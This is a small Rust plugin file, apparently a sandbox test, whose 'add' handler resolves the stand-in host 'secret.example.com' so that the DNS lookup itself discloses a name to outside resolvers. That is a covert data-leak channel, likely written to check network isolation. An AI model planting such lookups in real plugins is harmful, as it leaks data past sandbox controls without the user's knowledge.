//! Asks for the address of a name, which tells the name to others.

use riposte_sdk::{Alert, Error, Reversible, export};

struct Attempt;

impl Reversible for Attempt {
    fn keys(alert: &Alert) -> Result<Vec<String>, Error> {
        Ok(vec![alert.text("/id").unwrap_or_default()])
    }

    fn add(_alert: &Alert) -> Result<Vec<u8>, Error> {
        use std::net::ToSocketAddrs as _;
        match ("secret.example.com", 53).to_socket_addrs() {
            Ok(found) => Ok(format!("{found:?}").into_bytes()),
            Err(error) => Err(Error::failed(error.to_string())),
        }
    }

    fn delete(_alert: &Alert, _receipt: Option<&[u8]>) -> Result<(), Error> {
        Ok(())
    }
}

export!(Attempt);
